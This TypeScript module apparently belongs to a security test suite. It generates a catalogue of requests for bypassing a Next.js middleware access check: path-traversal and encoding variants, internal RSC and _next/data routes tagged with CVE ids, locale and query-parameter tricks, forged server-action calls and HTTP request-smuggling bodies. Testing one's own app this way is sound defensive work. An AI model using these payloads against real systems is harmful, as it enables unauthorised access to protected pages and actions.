// The known ways past a doorkeeper of Next.js, and past proxies in front of one, as requests for an inner path.
import type { Advisory, Bypass } from './advisories';
import { argumentsOf } from './authorisation';
import { awayTo } from './bypass-away';
import { byHeader } from './bypass-headers';

type Ways = {
  /** `/<segment>/visits/x`, as the doorkeeper itself asks for it */
  inner: string;
  outer: string;
  /** ids of server actions */
  actions: string[];
  build: string;
  /** the address of another server, which nobody may be sent to */
  elsewhere: string;
};

const encodeAll = (text: string) =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');

export function bypassesTo({ inner, outer, actions, build, elsewhere }: Ways): Bypass[] {
  const segment = inner.split('/')[1]!;
  return [
    ...byPath(inner),
    ...byForm(inner, 'the inner path', segment, build),
    ...byForm(outer, 'the page', segment, build),
    ...byHeader(inner, outer, elsewhere),
    ...byMethod(inner, actions),
    ...awayTo(elsewhere, inner),
  ];
}

/** The same place under other addresses. */
function byPath(inner: string): Bypass[] {
  const [, segment = '', ...rest] = inner.split('/');
  const path = rest.join('/');
  const upper = `/${segment.toUpperCase()}/${path}`;
  const packed = `${segment}%2f${rest.join('%2f')}`;
  // What the doorkeeper is not asked about: files, and what guards itself.
  const before = [
    '/flags/',
    '/_next/static/',
    '/icon.svg/',
    '/account-name.js/',
    '/desk/',
    '/api/',
    '/sign-in/',
  ];
  const files = before.flatMap((folder) => [
    `${folder}..${inner}`,
    `${folder}%2e%2e${inner}`,
    `${folder}..%2f${packed}`,
    `${folder}%2e%2e%2f${packed}`,
    `${folder}..%5c${packed}`,
    `${folder}..%252f${packed}`,
    `${folder}%2f${packed}`,
    `${folder}${path}`,
    `${folder.slice(0, -1)}%2f..%2f${packed}`,
  ]);
  const targets: Record<string, string> = {
    'the path itself': inner,
    'a trailing slash': `${inner}/`,
    'a leading double slash': `/${inner}`,
    'double slashes inside': `/${segment}//${path}`,
    'three slashes': `//${inner}`,
    'a dot segment': `/./${segment}/${path}`,
    'a way up': `/visits/..${inner}`,
    'an encoded way up': `/visits/%2e%2e${inner}`,
    'a matrix parameter': `/visits/..;${inner}`,
    'an encoded slash': `/${segment}%2f${path}`,
    'an encoded segment': `/${encodeAll(segment)}/${path}`,
    'all encoded': `/${encodeAll(`${segment}/${path}`)}`,
    'encoded twice': `/${encodeAll(segment).replaceAll('%', '%25')}/${path}`,
    'an overlong encoding': `/%c0%af${segment}/${path}`,
    'a backslash': `\\${segment}\\${path}`,
    'a backslash after a slash': `/\\${segment}/${path}`,
    'upper case': upper,
    'a null byte': `${inner}%00`,
    'a line break': `${inner}%0d%0a`,
    'a space': `${inner}%20`,
    'a file name': `${inner}.html`,
    'a text name': `${inner}.txt`,
    'an absolute target': `http://localhost${inner}`,
    'an absolute target elsewhere': `http://example.org${inner}`,
    'a query as the path': `/?path=${encodeURIComponent(inner)}`,
    'the parameter as a query': `/visits?audience=${encodeURIComponent(segment)}`,
    'a fragment': `/#${inner}`,
    'the template of the path': `/[audience]/${path}`,
    'the template, encoded': `/%5Baudience%5D/${path}`,
  };
  const traversal = 'CVE-2020-5284' as const;
  return [
    ...Object.entries(targets).map(([name, target]) => ({ name, target })),
    ...files.map((target) => ({ name: `unasked before: ${target}`, target, known: traversal })),
  ];
}

/** What Next itself calls a page by, beside its address; of pages that the doorkeeper hides as of inner paths. */
function byForm(path: string, what: string, segment: string, build: string): Bypass[] {
  const parts = path.split('/').slice(1);
  const tree = parts.map((part) => `$d$slug$${part}`).join('/');
  const parameter = encodeURIComponent(segment);
  const forms: [string, Advisory?][] = [
    [`${path}.rsc`, 'CVE-2026-44575'],
    [`${path}.prefetch.rsc`, 'CVE-2026-44575'],
    [`${path}/index.rsc`, 'CVE-2026-44575'],
    [`${path}.segments/_tree.segment.rsc`, 'CVE-2026-44575'],
    [`${path}.segments/_index.segment.rsc`, 'CVE-2026-44575'],
    [`${path}.segments/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
    [`${path}.segments/$d$audience$${segment}/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
    [`${path}.segments/$d$audience/${tree}/__PAGE__.segment.rsc`, 'CVE-2026-45109'],
    [`/_next/data/${build}${path}.json`, 'CVE-2026-44573'],
    [`/_next/data/${build}/en${path}.json`, 'CVE-2026-44573'],
    [`/_next/data/${build}${path}.rsc`, 'CVE-2026-44573'],
    [`/_next/data/development${path}.json`, 'CVE-2026-44573'],
    [`/_next/data${path}.json`, 'CVE-2026-44573'],
    [`/en${path}`, 'CVE-2026-64642'],
    [`/en-GB${path}`, 'CVE-2026-64642'],
    [`/default${path}`, 'CVE-2026-64642'],
    [`${path}?__nextLocale=en`, 'CVE-2024-51479'],
    [`${path}?__nextDefaultLocale=en&__nextLocale=`, 'CVE-2024-51479'],
    [`${path}?__nextDataReq=1`, 'CVE-2024-46982'],
    [`${path}?nxtPaudience=${parameter}`, 'CVE-2026-44574'],
    [`${path}?nxtIaudience=${parameter}&nxtPslug=${parts.at(-1)}`, 'CVE-2026-44574'],
    [`${path}?_rsc=abcde`, 'CVE-2025-49005'],
    [`/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`, 'CVE-2025-57752'],
    [
      `/_next/image?url=${encodeURIComponent(`http://localhost${path}`)}&w=640&q=75`,
      'CVE-2025-57752',
    ],
  ];
  return forms.map(([target, known]) => ({ name: `${what} as ${target}`, target, known }));
}

/** What an action is sent by script, so that nothing but the way is left to refuse. */
function called(id: string) {
  const given = argumentsOf(id);
  if (given === '[]') return { type: 'text/plain;charset=UTF-8', body: given };
  const part = `Content-Disposition: form-data; name="0"\r\n\r\n${given}`;
  return { type: 'multipart/form-data; boundary=x', body: `--x\r\n${part}\r\n--x--\r\n` };
}

function byMethod(inner: string, actions: string[]): Bypass[] {
  const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '0' };
  return [
    ...['HEAD', 'OPTIONS', 'TRACE', 'PUT', 'PATCH', 'DELETE', 'POST', 'PROPFIND', 'PURGE'].map(
      (method) => ({ name: method, target: inner, method, headers: form }),
    ),
    ...actions.map((id) => {
      const { type, body } = called(id);
      return {
        name: `the action ${id}`,
        target: inner,
        method: 'POST',
        headers: {
          ...{ 'next-action': id, 'content-type': type },
          'content-length': String(Buffer.byteLength(body)),
        },
        body,
      };
    }),
    {
      name: 'two lengths',
      known: 'CVE-2024-34350',
      target: inner,
      method: 'POST',
      headers: { 'content-length': ['4', '5'] },
      body: 'abcd',
    },
    {
      name: 'a request inside another',
      known: 'CVE-2024-34350',
      target: '/',
      method: 'POST',
      headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
      body: `0\r\n\r\nGET ${inner} HTTP/1.1\r\nhost: localhost\r\n\r\n`,
    },
  ];
}
